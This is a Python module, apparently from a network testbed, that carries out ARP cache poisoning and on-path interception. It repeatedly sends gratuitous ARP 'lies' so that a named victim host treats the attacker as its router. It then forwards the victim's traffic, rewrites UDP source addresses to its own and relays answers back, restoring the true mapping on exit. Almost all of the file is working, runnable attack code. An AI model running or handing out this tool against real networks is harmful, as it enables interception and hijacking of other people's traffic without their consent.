"""On the path of a node: its UDP goes on with our address for a source, and answers go back to it.

    python3 -m testbed.node.rewrite --device hotel --own 198.51.100.126 --victim 198.51.100.90 \\
        --router 198.51.100.65

The victim is made to believe that its router has our link address: by gratuitous ARP (RFC 5227 §3), repeated
because others answer, too. All else that it sends goes on as it is. `running` on stdout once
the victim was. At the end it is given the router's own link address.
"""

from __future__ import annotations

import argparse
import pathlib
import select
import signal
import socket
import time
from dataclasses import dataclass, field
from ipaddress import IPv4Address

from testbed.mobileip.wire.ipv4 import UDP
from testbed.node.arp import IPV4, LINK, gratuitous
from testbed.node.whole import mended

EVERY = 0.1
"""Seconds between two lies."""
PATIENCE = 3.0
"""Seconds in which neighbours have to be found."""
_COMPLETE = 2
NEIGHBOURS = pathlib.Path("/proc/net/arp")


class Unreachable(Exception):
    """A node on the link does not answer."""


@dataclass
class Path:
    """What goes through us: frames in, frames out."""

    link: bytes
    """Our link address."""
    own: IPv4Address
    victim: IPv4Address
    victim_link: bytes
    router: IPv4Address
    router_link: bytes
    ports: set[int] = field(default_factory=set)
    """Ports of the victim whose packets were rewritten: answers to them are its."""

    def lie(self) -> bytes:
        """The frame by which the victim learns that the router has our link address."""
        return gratuitous(self.router, self.link, self.victim_link, self.link)

    def truth(self) -> bytes:
        """The frame by which it learns the router's own."""
        return gratuitous(self.router, self.router_link, self.victim_link, self.link)

    def forward(self, frame: bytes) -> bytes | None:
        """What becomes of a frame that arrived; None: it is none of the victim's."""
        to, sender, kind = LINK.unpack_from(frame)
        packet = frame[LINK.size :]
        if to != self.link or kind != IPV4 or len(packet) < 20:
            return None
        destination = IPv4Address(packet[16:20])
        start = (packet[0] & 0xF) * 4
        whole_udp = packet[9] == UDP and not int.from_bytes(packet[6:8]) & 0x3FFF and len(packet) >= start + 8
        if sender == self.victim_link and destination != self.own:
            if whole_udp:
                self.ports.add(int.from_bytes(packet[start : start + 2]))
                packet = mended(packet, source=self.own)
            return LINK.pack(self.router_link, self.link, IPV4) + packet
        answers = whole_udp and int.from_bytes(packet[start + 2 : start + 4]) in self.ports
        if destination == self.own and answers:
            packet = mended(packet, destination=self.victim)
            return LINK.pack(self.victim_link, self.link, IPV4) + packet
        return None


def link_address(device: str, neighbour: IPv4Address) -> bytes:
    """The link address of a node on the link, as the kernel finds it. Raises Unreachable."""
    deadline = time.monotonic() + PATIENCE
    while time.monotonic() < deadline:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"", (str(neighbour), 9))
        for line in NEIGHBOURS.read_text(encoding="ascii").splitlines()[1:]:
            address, _, flags, link, _, on = line.split()
            if (address, on) == (str(neighbour), device) and int(flags, 16) & _COMPLETE:
                return bytes.fromhex(link.replace(":", ""))
        time.sleep(0.02)
    raise Unreachable(f"{neighbour} does not answer on {device}")


def run(device: str, own: IPv4Address, victim: IPv4Address, router: IPv4Address) -> None:
    """Rewrite until SIGTERM. Raises OSError and Unreachable."""
    ended: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: ended.append(number))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4)) as sock:
        sock.bind((device, IPV4))
        path = Path(
            sock.getsockname()[4],
            own,
            victim,
            link_address(device, victim),
            router,
            link_address(device, router),
        )
        announced, due = False, time.monotonic()
        while not ended:
            if (now := time.monotonic()) >= due:
                sock.send(path.lie())
                due = now + EVERY
                if not announced:
                    print("running", flush=True)
                    announced = True
            if not select.select([sock], [], [], max(due - time.monotonic(), 0))[0]:
                continue
            frame, (_, _, kind, *_) = sock.recvfrom(65535)
            out = path.forward(frame) if kind != socket.PACKET_OUTGOING else None
            if out is not None:
                sock.send(out)
        sock.send(path.truth())


def main(arguments: list[str] | None = None) -> None:
    """Entry point."""
    parser = argparse.ArgumentParser(prog="testbed.node.rewrite")
    parser.add_argument("--device", required=True)
    for name in ("own", "victim", "router"):
        parser.add_argument(f"--{name}", required=True, type=IPv4Address)
    options = parser.parse_args(arguments)
    try:
        run(options.device, options.own, options.victim, options.router)
    except (OSError, Unreachable, ValueError) as error:
        parser.exit(1, f"cannot rewrite: {error}\n")


if __name__ == "__main__":
    main()
